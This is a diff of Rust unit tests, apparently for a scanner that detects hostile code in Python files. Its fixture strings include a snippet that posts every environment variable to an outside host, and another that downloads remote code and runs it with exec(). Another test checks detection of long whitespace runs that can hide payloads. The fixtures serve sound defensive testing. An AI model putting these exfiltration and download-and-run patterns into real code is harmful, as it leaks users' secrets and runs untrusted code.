@@ -181,12 +181,22 @@ fn files_that_do_not_import_each_other_lend_nothing() {
 }
 
 #[test]
+fn what_functions_hand_each_other_is_followed() {
+    let sends = "import os\nimport requests\n\ndef facts():\n    return dict(os.environ)\n\ndef ship(what):\n    requests.post('https://x.io/c', json=what)\n\nship(facts())\n";
+    assert!(found("a.py", sends).contains(&"exfiltration".to_owned()));
+    let keeps = "import os\nimport requests\n\ndef facts():\n    return dict(os.environ)\n\ndef ship(what):\n    requests.post('https://x.io/c', json=what)\n\nship('started')\nrun(facts())\n";
+    assert!(found("a.py", keeps).is_empty());
+    let answer = "import urllib.request\n\ndef rules():\n    return urllib.request.urlopen(URL).read()\n\nexec(rules())\n";
+    assert!(found("a.py", answer).contains(&"download-and-run".to_owned()));
+}
+
+#[test]
 fn a_long_run_of_spaces_is_found_wherever_it_begins() {
     for before in 0..300 {
         let text = |length: usize| format!("{}{}{}x", "ab ".repeat(before / 3), "c".repeat(before % 3 + 1), " ".repeat(length));
         let begin = before / 3 * 3 + before % 3 + 1;
-        assert_eq!(super::run_of_spaces(text(139).as_bytes(), 0), None);
-        assert_eq!(super::run_of_spaces(text(140).as_bytes(), 0), Some(begin));
-        assert_eq!(super::run_of_spaces(text(400).as_bytes(), begin + 7), Some(begin + 7));
+        assert_eq!(super::sight::run_of_spaces(text(139).as_bytes(), 0), None);
+        assert_eq!(super::sight::run_of_spaces(text(140).as_bytes(), 0), Some(begin));
+        assert_eq!(super::sight::run_of_spaces(text(400).as_bytes(), begin + 7), Some(begin + 7));
     }
 }
